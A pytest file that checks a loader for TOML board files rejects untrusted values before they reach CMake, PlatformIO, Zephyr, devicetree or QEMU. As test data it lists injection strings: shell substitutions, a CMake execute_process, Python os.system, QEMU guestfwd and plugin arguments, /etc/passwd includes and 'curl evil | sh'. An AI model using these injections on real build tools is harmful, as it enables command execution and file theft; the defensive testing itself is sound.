# SPDX-License-Identifier: Apache-2.0
"""Board files of strangers: no string of one reaches a compiler, a build system or an emulator as a command."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pytest

from tests import tiny_model
from tinyet import assets
from tinyet.boards import all_boards, load_board
from tinyet.boards.linker import linker_script
from tinyet.boards.strings import _LINKER_WORDS, PLATFORMS
from tinyet.emit.project import project_files
from tinyet.errors import BoardError

# Every key there is, right.
WHOLE = """
title = "My board (X1, Cortex-M33)"
vendor = "Ärzte & Söhne"
url = "https://example.com/a/b.html?c=d"
cpu = "cortex-m33"
features = ["dsp"]
clock_hz = 64_000_000
stack_bytes = 2048
[memory.flash]
origin = 0x0
bytes = 0x80000
[memory.ram]
origin = 0x20000000
bytes = 0x10000
[uart]
driver = "cmsdk"
base = 0x40004000
[counter]
driver = "systick"
[qemu]
machine = "mps2-an505"
args = ["-cpu", "cortex-m33"]
counter_hz = 20_000_000
[renode]
counter_hz = 20_000_000
mips = 20
[platformio]
platform = "ststm32@^17.1"
board = "nucleo_f446re"
framework = "arduino"
[arduino]
fqbn = "STMicroelectronics:stm32:Nucleo_64:pnum=NUCLEO_F446RE"
[zephyr]
board = "nrf5340dk/nrf5340/cpuapp"
conf = '''
# The console is on USB.
CONFIG_USB=y
CONFIG_HEAP_MEM_POOL_SIZE=1024
CONFIG_ADDRESS=0x20000000'''
overlay = '''
/ { chosen { zephyr,console = &uart0; }; };
&flash0 { #address-cells = <1>; /delete-property/ reg; };
'''
"""
PLACES = {
    "title": "title",
    "vendor": "vendor",
    "url": "url",
    "cpu": "cpu",
    "uart.driver": "driver",
    "counter.driver": "driver",
    "qemu.machine": "machine",
    "platformio.platform": "platform",
    "platformio.board": "board",
    "platformio.framework": "framework",
    "arduino.fqbn": "fqbn",
    "zephyr.board": "board",
    "zephyr.conf": "conf",
    "zephyr.overlay": "overlay",
}
# What ends a line, a comment, a string, an argument, or begins a command, in one language or another.
HOSTILE = (
    "x\nexecute_process(COMMAND touch pwned)\n#",
    "x\r[env:evil]",
    'x" touch=pwned',
    "x'; touch pwned; '",
    "x`touch pwned`",
    "x$(touch pwned)",
    "x${__import__('os').system('touch pwned')}",
    "x */ #include <evil.h> /*",
    "x??/",
    "x\\",
    "x{{ 7 * 7 }}",
    "x<script>",
    "x|y",
    "x\x00y",
    "x\x1b[2Jy",
    "x\u202ey",
    "x\u200by",
    "-wrapper touch,pwned",
    "",
)
# What is prose, and what is to dtc a mistake in its syntax and nothing else.
HARMLESS = {
    "title": ("x'; touch pwned; '", "-wrapper touch,pwned"),
    "vendor": ("x'; touch pwned; '", "-wrapper touch,pwned"),
    "zephyr.overlay": (
        'x" touch=pwned',
        "x'; touch pwned; '",
        "x{{ 7 * 7 }}",
        "x<script>",
        "x|y",
        HOSTILE[-2],
    ),
}


def loaded(tmp_path: Path, text: str, name: str = "mine.toml") -> Any:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return load_board(path)


def refused(tmp_path: Path, text: str, name: str = "mine.toml") -> str:
    with pytest.raises(BoardError) as caught:
        loaded(tmp_path, text, name)
    return str(caught.value)


def toml(value: str) -> str:
    return '"' + "".join(f"\\u{ord(c):04x}" if c in '"\\' or not c.isprintable() else c for c in value) + '"'


def changed(key: str, value: str) -> str:
    """The whole file with another value of a key."""
    table, _, name = key.rpartition(".")
    at = WHOLE.index(f"[{table}]") if table else 0
    new, count = re.subn(
        rf"^{name} = (?:'''.*?'''|.*?)$",
        lambda _: f"{name} = {value}",
        WHOLE[at:],
        count=1,
        flags=re.MULTILINE | re.DOTALL,
    )
    assert count == 1
    return WHOLE[:at] + new


def test_the_whole_file_is_right(tmp_path: Path) -> None:
    board = loaded(tmp_path, WHOLE)
    assert board.platformio.platform == "ststm32@^17.1"
    for key in PLACES:
        same = tomllib.loads(changed(key, toml("x")))
        table, _, name = key.rpartition(".")
        assert (same[table] if table else same)[name] == "x"


@pytest.mark.parametrize("key", PLACES)
def test_no_place_takes_a_command(tmp_path: Path, key: str) -> None:
    for value in HOSTILE:
        if value == "" and key in ("vendor", "url", "zephyr.conf", "zephyr.overlay", "platformio.framework"):
            continue
        if value in HARMLESS.get(key, ()):
            assert loaded(tmp_path, changed(key, toml(value)))
            continue
        message = refused(tmp_path, changed(key, toml(value)))
        assert re.search(rf"line \d+: {re.escape(key)} ", message), (value, message)
        assert all(char.isprintable() or char == "\n" for char in message)


@pytest.mark.parametrize(
    ("key", "value", "part"),
    [
        ("platformio.platform", "https://example.com/platform.git", "PlatformIO runs what a platform brings"),
        ("platformio.platform", "evil/platform", "none of atmelavr"),
        ("platformio.platform", "symlink:///tmp/x", "none of atmelavr"),
        ("platformio.platform", "ststm32@https://x", "a version is written as in"),
        ("qemu.machine", "virt,dumpdtb=/etc/x", "written as in 'mps2-an386'"),
        (
            "zephyr.conf",
            'CONFIG_COMPILER_OPT="-wrapper touch,pwned"',
            "strings are for the application's own",
        ),
        ("zephyr.conf", "osource x", "has the line 'osource x'"),
        ("zephyr.overlay", '#include "/etc/passwd"', "cannot read other files"),
        ("zephyr.overlay", "/* */ # include <x>", "cannot read other files"),
        ("zephyr.overlay", '/ { x = /incbin/("/etc/passwd"); };', "cannot read other files"),
        ("zephyr.overlay", '/include/ "/etc/passwd"', "cannot read other files"),
        ("zephyr.overlay", "%:include <x>", "holds '%', which no devicetree needs"),
        ("zephyr.board", "../../etc", "written as in"),
        ("url", "javascript:alert(1)", "written as in 'https://"),
        ("title", "x" * 101, "more than 100 characters"),
    ],
)
def test_words_that_reach_further_than_a_board(tmp_path: Path, key: str, value: str, part: str) -> None:
    assert part in refused(tmp_path, changed(key, toml(value)))


@pytest.mark.parametrize(
    "args",
    [
        ["-serial", "file:/tmp/x"],
        ["-D", "/tmp/x"],
        ["-netdev", "user,id=n,guestfwd=tcp:1.2.3.4:1-cmd:touch pwned"],
        ["-plugin", "/tmp/x.so"],
        ["-bios", "/etc/passwd"],
        ["-cpu", "cortex-m33,x=$(touch pwned)"],
        ["-global", "driver=a,property=b,value=/etc/passwd"],
        ["-cpu"],
        ["-m", "1", "-daemonize"],
        ["${__import__('os').system('touch pwned')}", "x"],
    ],
)
def test_emulators_get_options_of_the_machine_only(tmp_path: Path, args: list[str]) -> None:
    value = "[" + ", ".join(map(toml, args)) + "]"
    assert re.search(r"line 22: qemu\.args (holds|has) ", refused(tmp_path, changed("qemu.args", value)))


def test_names_of_files_and_memories(tmp_path: Path) -> None:
    for name in ("harness", "host", "arduino", "arduino_harness"):
        assert "projects use that name" in refused(tmp_path, WHOLE, f"{name}.toml")
    for name in ("x" * 49, "é", "a b", "a-b", "-x"):
        assert "must be lower-case letters" in refused(tmp_path, WHOLE, f"{name}.toml")
    extra = "[memory.{}]\norigin = 0x30000000\nbytes = 64\n"
    for name in ('"a\\nb"', '"${x}"', '"*/"', "origin", "at"):
        message = refused(tmp_path, WHOLE + extra.format(name))
        assert re.search(
            r"line 1: memory\..*(lower-case|linker scripts)|memory\..*(lower-case|linker scripts)", message
        )
    many = "".join(f"[memory.m{i}]\norigin = {i << 24:#x}\nbytes = 64\n" for i in range(64, 80))
    assert "memory has 18 tables; 16 is the most" in refused(tmp_path, WHOLE + many)


def test_chips_of_avr(tmp_path: Path) -> None:
    uno = (assets.path("boards") / "arduino_uno.toml").read_text(encoding="utf-8")
    for value in HOSTILE[:-1]:
        message = refused(tmp_path, uno.replace('mcu = "atmega328p"', f"mcu = {toml(value)}"))
        assert re.search(r"line \d+: mcu is ", message)


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("x" * 70_000, "cannot be read: it has more than 65,536 bytes"),
        ("a = " + "[" * 20_000, "is not TOML"),
        ("a = " + "9" * 10_000, "is not TOML"),
        ("a.b = 1\n" * 3, "is not TOML"),
        ('"\x7f\\u001b[2J" = 1', "is not TOML"),
        (
            '"\\u001b[2J\\n  do: curl evil | sh" = 1\n' + WHOLE,
            "\\x1b[2J\\n  do: curl evil | sh is not known here",
        ),
        ("title = 3\nqemu = 1\nmemory = []\nzephyr = [[1]]\n", "memory must be a table"),
        ("\ufefftitle = 1", "is not TOML"),
    ],
)
def test_files_that_are_no_boards_are_refused_at_once(tmp_path: Path, text: str, part: str) -> None:
    assert part in refused(tmp_path, text)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes in this file system")
def test_pipes_and_devices_are_no_files(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.toml")
    for path in (tmp_path / "pipe.toml", tmp_path, Path("/dev/zero")):
        with pytest.raises(BoardError, match=r"cannot be read: (it is no regular file|Is a directory)"):
            load_board(path)


def test_the_boards_of_tinyet_are_among_what_is_allowed() -> None:
    used = {board.platformio.platform for board in all_boards() if board.platformio}
    assert used <= set(PLATFORMS)


@pytest.mark.skipif(shutil.which("arm-none-eabi-gcc") is None, reason="no linker for Arm")
def test_the_linker_takes_every_name_of_a_memory_that_is_not_its_own_word(tmp_path: Path) -> None:
    """All at once; and each word of the list is one that it would stumble over."""
    names = ["keep", "o", "l", "org", "len", "vectors2", "a1_b", "fill", "byte", "sort", "common"]
    text = WHOLE + "".join(
        f"[memory.{name}]\norigin = {0x30000000 + i * 4096:#x}\nbytes = 64\n" for i, name in enumerate(names)
    )
    script = tmp_path / "linker.ld"
    script.write_text(linker_script(loaded(tmp_path, text)))
    link = [
        "arm-none-eabi-gcc",
        "-nostdlib",
        f"-T{script}",
        "-Wl,--defsym,Reset_Handler=0",
        "-x",
        "c",
        "/dev/null",
    ]
    subprocess.run([*link, "-o", str(tmp_path / "x.elf")], check=True)
    assert set(names).isdisjoint(_LINKER_WORDS.split())


@pytest.mark.skipif(shutil.which("cmake") is None, reason="CMake is not installed")
def test_a_toolchain_file_does_what_it_says_and_no_more(tmp_path: Path) -> None:
    """The widest prose that a title can have, read by CMake itself."""
    board = loaded(
        tmp_path, changed("title", toml("A (b), c; d: e/f & 'g' _h_ #[[i]] + ®™°".replace("[[i]]", "")))
    )
    files = project_files("cmake", board, tiny_model.FACTS, tiny_model.sources())
    (tmp_path / "toolchain.cmake").write_text(files["cmake/mine.cmake"])
    before = {path.name for path in tmp_path.iterdir()}
    (tmp_path / "run.cmake").write_text('include(toolchain.cmake)\nmessage("${CMAKE_C_FLAGS_INIT}")\n')
    done = subprocess.run(
        ["cmake", "-P", "run.cmake"], cwd=tmp_path, check=True, capture_output=True, text=True
    )
    assert done.stderr.strip() == " ".join((*board.machine_flags, "--specs=nano.specs"))
    assert {path.name for path in tmp_path.iterdir()} == before | {"run.cmake"}
